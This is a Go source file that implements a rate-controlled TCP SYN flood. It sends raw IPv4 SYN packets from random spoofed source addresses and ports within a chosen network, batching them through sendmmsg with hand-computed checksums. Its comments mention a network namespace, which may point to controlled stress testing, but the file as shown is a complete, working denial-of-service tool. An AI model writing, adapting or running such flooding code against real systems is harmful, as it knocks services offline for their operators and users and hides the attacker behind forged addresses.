package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// synBytes is an IPv4 header and a TCP header with one option, the segment size.
const synBytes = 20 + 24

// synsAtOnce is how many SYNs one system call sends.
const synsAtOnce = 64

// flood sends SYNs that are never completed, from random ports of random addresses of a
// network, as many as are missing to a number of attempts per second. It sends them from a
// raw socket, so it needs CAP_NET_RAW in this network namespace. The hosts of the network
// must not answer: then each SYN leaves a half-open peer, or a cookie.
func flood(at netip.AddrPort, from netip.Prefix, perSecond float64, stop <-chan struct{}, attempts *atomic.Int64) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW) // this program writes the header
	if err != nil {
		return fmt.Errorf("open a raw socket (this needs CAP_NET_RAW): %w", err)
	}
	defer unix.Close(fd) //nolint:errcheck // nothing waits in it
	b := newBatch(at, from)
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	begin, before := time.Now(), attempts.Load()
	for {
		select {
		case <-stop:
			return nil
		case <-tick.C:
		}
		due := int64(perSecond*time.Since(begin).Seconds()) - (attempts.Load() - before)
		for due = min(due, int64(perSecond/10)); due > 0; { // after a delay only a part of the missed SYNs is made up for
			n, err := b.send(fd, int(min(due, synsAtOnce)))
			if err != nil {
				return fmt.Errorf("send SYNs: %w", err)
			}
			due -= int64(n)
			attempts.Add(int64(n))
		}
	}
}

// batch is the input of one sendmmsg(2).
type batch struct {
	rng      *rand.Rand
	from     netip.Prefix
	packets  [synsAtOnce][synBytes]byte
	vectors  [synsAtOnce]unix.Iovec
	messages [synsAtOnce]message
	to       unix.RawSockaddrInet4
}

// message is struct mmsghdr of 64-bit Linux.
type message struct {
	header unix.Msghdr
	sent   uint32
	_      [4]byte
}

func newBatch(at netip.AddrPort, from netip.Prefix) *batch {
	b := &batch{rng: rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64())), from: from}
	b.to = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: at.Addr().As4()}
	for i := range b.packets {
		p := &b.packets[i]
		p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP // version 4, five words; time to live
		copy(p[16:], b.to.Addr[:])
		binary.BigEndian.PutUint16(p[22:], at.Port())
		p[32], p[33] = 6<<4, 2                                     // six words; SYN
		copy(p[34:], []byte{0xfa, 0xf0, 0, 0, 0, 0, 2, 4, 5, 180}) // window, checksum, urgent; segments of 1460
		b.vectors[i].Base = &p[0]
		b.vectors[i].SetLen(synBytes)
		h := &b.messages[i].header
		h.Name, h.Namelen = (*byte)(unsafe.Pointer(&b.to)), unix.SizeofSockaddrInet4
		h.Iov = &b.vectors[i]
		h.SetIovlen(1)
	}
	return b
}

// send sends at most n SYNs, and returns how many it sent.
func (b *batch) send(fd, n int) (int, error) {
	host := uint32(1)<<(32-b.from.Bits()) - 1
	net4 := b.from.Masked().Addr().As4()
	for i := range n {
		p := &b.packets[i]
		r := b.rng.Uint64()
		binary.BigEndian.PutUint32(p[12:], binary.BigEndian.Uint32(net4[:])|uint32(r)&host)
		binary.BigEndian.PutUint16(p[20:], uint16(1024+(r>>32)%(65536-1024)))
		binary.BigEndian.PutUint32(p[24:], b.rng.Uint32()) // the sequence number
		binary.BigEndian.PutUint16(p[36:], 0)
		binary.BigEndian.PutUint16(p[36:], tcpSum(p))
	}
	for {
		sent, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&b.messages[0])), uintptr(n), 0, 0, 0)
		switch errno {
		case 0:
			return int(sent), nil
		case unix.EINTR:
		case unix.ENOBUFS:
			return 0, nil // the interface has no room now; the caller retries
		default:
			return 0, errno
		}
	}
}

// tcpSum is the checksum of a packet's TCP part (RFC 9293, 3.1).
func tcpSum(p *[synBytes]byte) uint16 {
	sum := uint32(unix.IPPROTO_TCP + synBytes - 20)
	for i := 12; i < synBytes; i += 2 { // from the addresses on: they are part of it
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
